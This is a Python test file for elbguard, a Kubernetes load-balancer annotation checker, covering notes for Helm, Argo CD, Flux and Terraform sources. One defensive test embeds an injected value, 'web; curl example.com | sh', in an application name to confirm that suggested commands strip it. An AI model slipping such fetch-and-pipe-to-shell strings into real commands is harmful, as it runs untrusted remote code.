"""What a tool has yet to make manifests of: seen, no finding, and told how to have it judged."""

import json
from pathlib import Path

import pytest

from elbguard.check.checking import check, noted
from elbguard.report.model import Report, Why
from elbguard.report.sentences import summary
from elbguard.settings import Settings
from elbguard_rules.core.problem import Severity
from tests.support.builders import service, write

RELEASE = """\
apiVersion: helm.toolkit.fluxcd.io/v2
kind: HelmRelease
metadata: {name: web}
spec:
  chart: {spec: {chart: shop/web, version: 1.2.3}}
  values:
    service:
      annotations: {kubernetes.io/elb.class: nope}
"""
APPLICATION = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: web}
spec: {source: {path: deploy/web, repoURL: 'https://example.com/web'}}
"""
APPLICATION_SET = "apiVersion: argoproj.io/v1alpha1\nkind: ApplicationSet\nmetadata: {name: webs}\n"
FLUX = """\
apiVersion: kustomize.toolkit.fluxcd.io/v1
kind: Kustomization
metadata: {name: apps}
spec: {path: ./apps}
"""
INLINE = """\
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata: {name: web}
spec:
  source:
    helm:
      values: |
        annotations:
          kubernetes.io/elb.class: nope
"""
NESTED = "metadata: {annotations: {kubernetes.io/elb.class: nope}}"
VALUES = "service:\n  annotations:\n    kubernetes.io/elb.class: nope\n"
TERRAFORM = (
    'resource "kubernetes_service_v1" "web" {\n  metadata {\n    annotations = { "kubernetes.io/elb.class" = "nope" }\n'
)


def checked(folder: Path) -> Report:
    return check([str(folder)], Settings())


@pytest.mark.parametrize(
    ("text", "why", "line", "told"),
    [
        (RELEASE, Why.RENDER, 8, "helm template shop/web --version 1.2.3 --values values.yaml | elbguard check -"),
        (APPLICATION, Why.SEEN, 1, "argocd app manifests web | elbguard check -"),
        (APPLICATION, Why.SEEN, 1, "elbguard check --render deploy/web"),
        (APPLICATION_SET, Why.SEEN, 1, "argocd app manifests NAME"),
        (INLINE, Why.RENDER, 7, "argocd app manifests web"),
        (FLUX, Why.SEEN, 1, "flux build kustomization apps --path ./apps"),
        (VALUES, Why.RENDER, 3, "elbguard check --render CHART --values"),
        ("commonAnnotations: {kubernetes.io/elb.class: nope}\nkind: Kustomization\n", Why.RENDER, 1, "--render"),
    ],
)
def test_it_is_said_once_with_its_place_and_how_to_judge_it(
    tmp_path: Path, text: str, why: Why, line: int, told: str
) -> None:
    write(tmp_path, thing=text)
    report = checked(tmp_path)

    assert not report.entries
    assert not report.troubles
    assert [(note.why, note.line) for note in report.notes] == [(why, line)]
    assert told in report.notes[0].message
    assert Report(notes=report.notes, strict=True).exit_code(Severity.ERROR) == (why is Why.RENDER)


def test_a_command_that_people_copy_has_no_word_that_a_shell_acts_on(tmp_path: Path) -> None:
    write(tmp_path, thing=APPLICATION.replace("name: web", "name: 'web; curl example.com | sh'"))

    assert "argocd app manifests NAME |" in checked(tmp_path).notes[0].message


def test_many_of_them_are_one_line_and_counted(tmp_path: Path) -> None:
    for number in range(5):
        write(tmp_path, **{f"app{number}": APPLICATION})
    report = checked(tmp_path)

    assert len(list(noted(report.notes))) == 1
    assert "saw 5 releases and applications that others render" in summary(report)


@pytest.mark.parametrize("text", ["a: {b: c}\n", "image: kubernetes.io/web\n", "kind: ConfigMap\napiVersion: v1\n"])
def test_what_has_nothing_to_do_with_load_balancers_gets_no_word(tmp_path: Path, text: str) -> None:
    write(tmp_path, values=text)

    assert not checked(tmp_path).notes


@pytest.mark.parametrize(
    ("text", "line", "told"),
    [
        (f"apiVersion: kafka.strimzi.io/v1\nkind: Kafka\nspec:\n  {{service: {{{NESTED}}}}}\n", 4, "within a Kafka"),
        (
            f"apiVersion: v1\nkind: List\nitems:\n- {{kind: Elasticsearch, apiVersion: e.co/v1, spec: {{{NESTED}}}}}\n",
            4,
            "an E",
        ),
        (
            "kind: ConfigMap\ndata:\n  web.yaml: |\n    annotations:\n      kubernetes.io/elb.class: nope\n",
            3,
            "a ConfigMap",
        ),
        (
            'kind: ConfigMap\ndata:\n  web.json: \'{"annotations":{"kubernetes.io/elb.class":"nope"}}\'\n',
            3,
            "a ConfigMap",
        ),
        (f"- hosts: all\n  tasks: [{{k8s: {{definition: {{kind: Service, {NESTED}}}}}}}]\n", 2, "holds no manifests"),
        (f"apiVersion: v1\n{NESTED}\n", 2, "write kind: Service"),
        (f"apiVersion: v1\nkind: service\n{NESTED}\n", 3, "kind: service, apiVersion: v1): not judged: write"),
        (f"apiVersion: core/v1\nkind: Service\n{NESTED}\n", 3, "apiVersion: core/v1): not judged: write"),
        (
            f"apiVersion: serving.knative.dev/v1\nkind: Service\n{NESTED}\n",
            3,
            "on a Service of serving.knative.dev/v1:",
        ),
    ],
)
def test_annotations_where_nobody_here_judges_them_get_a_word_with_their_place(
    tmp_path: Path, text: str, line: int, told: str
) -> None:
    write(tmp_path, thing=text)
    report = checked(tmp_path)

    assert [(note.why, note.line, report.services) for note in report.notes] == [(Why.ELSEWHERE, line, 0)]
    assert told in report.notes[0].message
    assert not report.troubles


@pytest.mark.parametrize(
    "text",
    [
        "kind: Deployment\nmetadata:\n  annotations: {note: 'reads kubernetes.io/elb.class of Services'}\n",
        "description: kubernetes.io/elb.class says which load balancer\n",
        "kind: ConfigMap\ndata:\n  help: Write kubernetes.io/elb.class and kubernetes.io/elb.id.\n",
        "- id: hook\n  description: Judges kubernetes.io/elb.* annotations.\n",
    ],
)
def test_a_sentence_that_mentions_an_annotation_is_none(tmp_path: Path, text: str) -> None:
    write(tmp_path, thing=text)

    assert not checked(tmp_path).notes


def test_a_document_that_is_nothing_but_a_list_of_objects_is_judged_like_a_list_of_kubernetes(tmp_path: Path) -> None:
    metadata = {"name": "web", "annotations": {"kubernetes.io/elb.class": "nope"}}
    one = {"apiVersion": "v1", "kind": "Service", "metadata": metadata, "spec": {"type": "LoadBalancer"}}
    (tmp_path / "items.json").write_text(json.dumps([one, {"kind": "ConfigMap", "apiVersion": "v1"}, one]))
    (tmp_path / "list.json").write_text(json.dumps({"apiVersion": "v1", "kind": "List", "items": [one, one]}))
    found = {
        name: [entry.finding.field for entry in checked(tmp_path / name).entries]
        for name in ("items.json", "list.json")
    }

    assert found["items.json"] == found["list.json"] != []
    assert checked(tmp_path / "items.json").services == 2


@pytest.mark.parametrize("name", ["main.tf", "main.tofu"])
def test_a_configuration_of_terraform_gets_a_word_for_its_folder(tmp_path: Path, name: str) -> None:
    write(tmp_path, **{f"infra__{name}": TERRAFORM, "infra__other.tf": TERRAFORM, "infra__vars.tf": "variable x {}\n"})
    report = checked(tmp_path)

    assert not report.troubles
    assert [note.why for note in report.notes] == [Why.RENDER]
    assert "terraform show -json tf.plan | elbguard check -" in report.notes[0].message
    assert check([str(tmp_path / "infra" / name)], Settings()).notes, "also where it is named"


def test_a_configuration_in_json_gets_the_same_word(tmp_path: Path) -> None:
    web = {"metadata": {"annotations": {"kubernetes.io/elb.class": "nope"}}}
    write(tmp_path, **{"main.tf.json": json.dumps({"resource": {"kubernetes_service_v1": {"web": web}}})})

    assert "terraform show -json tf.plan" in checked(tmp_path).notes[0].message


def test_a_configuration_without_services_gets_no_word_and_is_no_trouble(tmp_path: Path) -> None:
    write(tmp_path, **{"main.tf": "variable x {}\n"})
    report = checked(tmp_path)

    assert not report.notes
    assert not report.troubles


CASES = [
    ({"svc": service("spec: {}\n", **{"class": "union"})}, "--render builds charts and kustomizations"),
    ({"svc": service(**{"class": "{{ .Values.x }}"})}, "--render builds charts and kustomizations"),
    ({"svc": service().replace("web", "{{ .Release.Name }}", 1)}, "--render builds charts and kustomizations"),
    ({"svc": service(**{"class": "${CLASS}"})}, "--render the chart or kustomization that does"),
    ({"values": VALUES}, "--render builds charts and kustomizations"),
]


@pytest.mark.parametrize(("files", "hint"), CASES)
def test_the_last_line_says_what_needs_to_be_built_first(tmp_path: Path, files: dict[str, str], hint: str) -> None:
    write(tmp_path, **files)

    assert hint in summary(checked(tmp_path))


def test_the_last_line_says_nothing_of_it_where_all_is_whole(tmp_path: Path) -> None:
    write(tmp_path, svc=service(**{"class": "union"}))

    assert "--render" not in summary(checked(tmp_path))
